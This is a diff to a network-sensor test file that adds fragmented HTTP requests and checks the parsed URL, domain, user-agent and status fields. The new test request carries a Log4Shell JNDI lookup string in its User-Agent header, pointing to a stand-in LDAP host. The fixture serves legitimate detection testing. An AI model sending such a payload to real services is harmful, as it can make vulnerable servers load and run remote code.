@@ -237,7 +237,7 @@ def _protocols() -> Traffic:
 
 def _wire_variants(t: Traffic) -> None:
     """Framings and requests the fast path once skipped: PPPoE, SCTP, a request in a TCP
-    Fast Open SYN, an IPv6 literal Host with a port."""
+    Fast Open SYN, HTTP heads split across segments, an IPv6 literal Host with a port."""
     from packet_craft import ETH
     from scapy.all import IP, PPP, TCP, PPPoE, Raw
     from scapy.layers.sctp import SCTP, SCTPChunkData
@@ -260,6 +260,10 @@ def _wire_variants(t: Traffic) -> None:
            True, key)
     t.send(ETH / IP(src=key[2], dst=key[0]) / TCP(sport=80, dport=40101, flags="SA", seq=90,
                                                   ack=6 + len(get)), False, key)
+    _dialogue(t, "10.0.4.4", 40103, "10.0.4.83", 80, [  # heads cut into pieces
+        (True, b"GE"), (True, b"T /split HTTP/1.1\r\nHost: split.example.gov.cn\r\n"),
+        (True, b"User-Agent: ${jndi:ldap://203.0.113.5/a}\r\n\r\n"),
+        (False, b"HTTP/1.1 404 Not Found\r\nContent-"), (False, b"Length: 0\r\n\r\n")])
     t.tcp_session("10.0.4.3", 40102, "10.0.4.82", 8080,
                   [b"GET /v6 HTTP/1.1\r\nHost: [2001:db8::82]:8080\r\n\r\n"],
                   [b"HTTP/1.1 204 No Content\r\n\r\n"])
@@ -345,6 +349,10 @@ def test_protocol_events_carry_what_the_wire_shows(tmp_path):
             if e["event"]["dataset"] == "network.http"}
     assert urls["/tfo"] == "tfo.example.gov.cn"  # carried by the SYN (TCP Fast Open)
     assert urls["/v6"] == "2001:db8::82"
+    split = next(e for e in events if get_field(e, "url.original") == "/split")
+    assert get_field(split, "url.domain") == "split.example.gov.cn"
+    assert get_field(split, "user_agent.original") == "${jndi:ldap://203.0.113.5/a}"
+    assert get_field(split, "http.response.status_code") == 404
     qtypes = {get_field(e, "dns.question.type") for e in events
               if e["event"]["dataset"] == "network.dns"}
     assert qtypes == {"NULL", "SSHFP", "AXFR", "IXFR", "TLSA", "SPF"}
